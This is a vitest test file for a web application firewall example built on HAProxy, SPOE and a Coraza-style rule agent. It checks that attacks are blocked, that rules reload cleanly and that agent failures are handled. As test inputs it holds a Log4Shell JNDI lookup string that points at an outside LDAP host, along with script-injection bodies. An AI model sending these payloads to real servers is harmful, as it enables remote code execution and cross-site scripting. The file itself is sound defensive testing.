import { rename, writeFile } from 'node:fs/promises';
import type { ServerResponse } from 'node:http';
import { connectAs, startAgent } from '@spop-internal/testbed/example';
import { Haproxy } from '@spop-internal/testbed/haproxy/haproxy';
import { describeHaproxies, stopAfterTest } from '@spop-internal/testbed/vitest';
import { expect, it } from 'vitest';
import { Origin } from '@spop-internal/testbed/origin';
import { CORAZA_FILES, corazaConfig } from './coraza-configuration.ts';
import { AGENT, ask, chunked, DENIED, PASSED, sendRaw, SQL, startBoth, startSite } from './testing.ts';
import { configWith, summaryOf, writeRules } from './testing.ts';

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const SCRIPT = [403, 'deny', '941100', '1', 'rules'];

describeHaproxies('the request inspection example', (release) => {
  it('denies requests and responses that rules hit, with headers as text and as bytes', async () => {
    const { haproxy: asText, running } = await startBoth(release);
    const config = await configWith({ conf: 'spoe-request-inspection-bin.conf' });
    const { haproxy: asBytes } = await startBoth(release, { running, config });
    for (const haproxy of [asText, asBytes]) {
      expect(await ask(haproxy, { path: '/items?q=union+of+select+committees' })).toEqual(PASSED);
      expect(await ask(haproxy, { path: SQL })).toEqual(DENIED);
      const log4j = { 'user-agent': '${jndi:ldap://192.0.2.9/a}' };
      expect(await ask(haproxy, { headers: log4j })).toEqual([403, 'deny', '944150', '1', 'rules']);
      expect(await ask(haproxy, { headers: FORM, body: 'a=b&c=%3Cscript%3e' })).toEqual(SCRIPT);
      expect(await ask(haproxy, { headers: FORM, body: 'a=b&c=d' })).toEqual(PASSED);
      const json = { headers: { 'content-type': 'application/json' }, body: '{"c":"\\u003cscript>"}' };
      expect(await ask(haproxy, json)).toEqual(SCRIPT);
      expect(await ask(haproxy, { path: '/leak' })).toEqual([403, 'deny', '951100', '1', 'rules']);
      // HAProxy waits for a body without a length, too.
      expect(summaryOf(await sendRaw(haproxy, chunked('/', ['a=', 100, '<script>'])))).toEqual(SCRIPT);
      // Of a body larger than the buffer the rules see the beginning.
      const seen = [200, undefined, '200004', '0', 'rules'];
      expect(await ask(haproxy, { headers: FORM, body: 'a=b&'.repeat(12_000) })).toEqual(seen);
      await haproxy.says(
        / 200 .* action=- detected=- score=3\/0 by-rule=- hits=1 rules=200004 whole=0\/1 paired=1 by=rules spoe=-/,
      );
    }
    await running.agent.says(
      /request denied: id=".{36}" client=192\.0\.2\.1 score=5 rules=942100 "SQL.*" "GET \/items"/,
    );
    await running.agent.says(/end of a request body not seen: cut, 1 times so far/);
  });

  it("keeps coraza-spoa's configuration", async () => {
    const RULES = await writeRules(`
      rule 1 A page that has moved
        in path
        is /old
        redirect https://a.test/new
      rule 2 Nobody's business
        in path
        is /drop
        drop
      rule 3 A word
        in argument
        contains evil
        deny
      rule 4 A leak
        in response-body
        contains sql syntax
        deny`);
    const { agent, spoeAddress } = await startAgent(AGENT, { RULES });
    const config = corazaConfig(spoeAddress, (await startSite()).address);
    const haproxy = stopAfterTest(await Haproxy.start({ program: release.program, config, files: CORAZA_FILES }));
    const client = connectAs('192.0.2.1', haproxy);
    const askFor = async (path: string): Promise<unknown[]> => {
      const { status, headers } = await client.request({ path });
      return [status, headers['waf-block'], headers['location']];
    };
    await expect.poll(() => askFor('/')).toEqual([200, undefined, undefined]);
    expect(await askFor('/?a=EVIL')).toEqual([403, 'request', undefined]);
    expect(await askFor('/leak')).toEqual([403, 'response', undefined]);
    expect(await askFor('/old')).toEqual([302, undefined, 'https://a.test/new']);
    await haproxy.says(/GET \/leak .* [\w-]{36} spoa-error: - waf-hit: 403 ruleid: 4 rules-hit: 1/);
    await agent.stop();
    expect(await askFor('/')).toEqual([500, undefined, undefined]);
  });

  if (release.name !== 'forky') return;

  it('finds the request of each response, with many at once', async () => {
    const rules = Array.from({ length: 9 }, (_, n) => `rule ${n + 1} Number\n in argument.n\n is ${n + 1}\n score 1`);
    const RULES = await writeRules([...rules, 'rule 100 All\n in status\n is 200\n score 1'].join('\n'));
    const { haproxy } = await startBoth(release, { env: { RULES } });
    const client = connectAs('192.0.2.1', haproxy);
    await Promise.all(
      Array.from({ length: 200 }, async (_, at) => {
        const n = (at % 9) + 1;
        const { headers } = await client.request({ path: `/?n=${n}` });
        // A busy machine may miss HAProxy's deadline.
        if (headers['x-spoe-error'] === undefined) expect(headers['x-rules']).toBe(`${n},100`);
        else expect(headers['x-spoe-error']).toBe('1');
      }),
    );
    expect((await client.request({ path: '/?n=1' })).headers['x-rules']).toBe('1,100');
  });

  it('only detects, without an effect for the client, with detect-only', async () => {
    const { haproxy } = await startBoth(release, { env: { DETECT_ONLY: '1' } });
    expect(await ask(haproxy, { path: SQL })).toEqual([200, undefined, '942100', '1', 'rules']);
    await haproxy.says(/ 200 .* action=- detected=deny score=5\/0 by-rule=942100 hits=1 rules=942100/);
  });

  it('reads other rules during requests, without losing one, and keeps the last good ones', async () => {
    const rules = (word: string): string => `rule 1 A word\n in argument\n contains ${word}, always\n deny`;
    const RULES = await writeRules(rules('one'));
    const { haproxy, running } = await startBoth(release, { env: { RULES } });
    const client = connectAs('192.0.2.1', haproxy);
    let isOver = false;
    const seen: Record<string, number> = {};
    const load = Array.from({ length: 8 }, async (_, at) => {
      while (!isOver) {
        const { status, headers } = await client.request({ path: at % 2 === 0 ? '/?a=always' : '/?a=never' });
        const what = headers['x-spoe-error'] === undefined ? `${at % 2} ${status}` : `error ${headers['x-spoe-error']}`;
        seen[what] = (seen[what] ?? 0) + 1;
      }
    });
    for (let round = 0; round < 5; round++) {
      const [good, bad] = [`good${round}`, `bad${round}`];
      await writeFile(`${RULES}.next`, rules(good));
      await rename(`${RULES}.next`, RULES);
      running.agent.signal('SIGHUP');
      await expect.poll(() => ask(haproxy, { path: `/?a=${good}` })).toEqual([403, 'deny', '1', '1', 'rules']);
      await writeFile(RULES, rules(`${bad}\n matches (${bad}`));
      running.agent.signal('SIGHUP');
      await running.agent.says(new RegExp(`rule 1: expected a pattern as RE2 .*${bad}.*stays in use`));
      expect(await ask(haproxy, { path: `/?a=${good}` })).toEqual([403, 'deny', '1', '1', 'rules']);
    }
    isOver = true;
    await Promise.all(load);
    expect(seen['0 403']).toBeGreaterThan(20);
    expect(seen['1 200']).toBeGreaterThan(20);
    // A busy machine may miss HAProxy's deadline; no other error may come.
    expect(Object.keys(seen).filter((what) => !['0 403', '1 200', 'error 1'].includes(what))).toEqual([]);
    expect(seen['error 1'] ?? 0).toBeLessThan(20);
  });

  it('denies while the agent does not answer or was killed, logs it, and goes on with another agent', async () => {
    const { haproxy, running } = await startBoth(release);
    expect(await ask(haproxy, { path: SQL })).toEqual(DENIED);
    running.agent.signal('SIGSTOP');
    const late = await connectAs('192.0.2.1', haproxy).request();
    expect(summaryOf(late)).toEqual([500, undefined, undefined, undefined, 'deadline']);
    running.agent.signal('SIGCONT');
    await haproxy.says(/SPOE: \[coraza\] .* st=1 /);
    await haproxy.says(/ 500 .* action=- .* by=deadline spoe=1/);
    await running.agent.stop({ signal: 'SIGKILL' });
    await haproxy.says(/spoe-agents\/agent1 is DOWN/);
    const { status, headers } = await connectAs('192.0.2.1', haproxy).request();
    expect([status, headers['x-verdict-source']]).toEqual([500, 'default']);
    await haproxy.says(/ 500 .* action=- .* by=default spoe=(2|257)/);
    expect(await haproxy.command('show table verdicts')).toMatch(/key=default .*http_req_cnt=[1-9]/);
    await startAgent(AGENT, { SPOE_ADDR: running.spoeAddress });
    await expect.poll(() => ask(haproxy, { path: SQL }), { timeout: 10_000 }).toEqual(DENIED);
  });

  it('inspects a response whose request was forgotten, and logs it', async () => {
    const { promise, resolve } = Promise.withResolvers<void>();
    let waiting = 0;
    const answerLater = async (response: ServerResponse): Promise<void> => {
      waiting++;
      await promise;
      response.setHeader('content-length', 20).end('<title>Index of /</t');
    };
    const site = stopAfterTest(await Origin.serve((_, response) => void answerLater(response)));
    const { haproxy, running } = await startBoth(release, { env: { MAX_KNOWN_REQUESTS: '1' }, site: site.address });
    const answers = [ask(haproxy, { path: '/?a=1' }), ask(haproxy, { path: '/?a=2' })];
    await expect.poll(() => waiting).toBe(2);
    resolve();
    const denied = [403, 'deny', '954100', '1', 'rules'];
    expect(await Promise.all(answers)).toEqual([denied, denied]);
    await haproxy.says(/ paired=0 by=rules/);
    await haproxy.says(/ paired=1 by=rules/);
    await running.agent.says(/response without its request: request not known, 1 times so far/);
  });
});
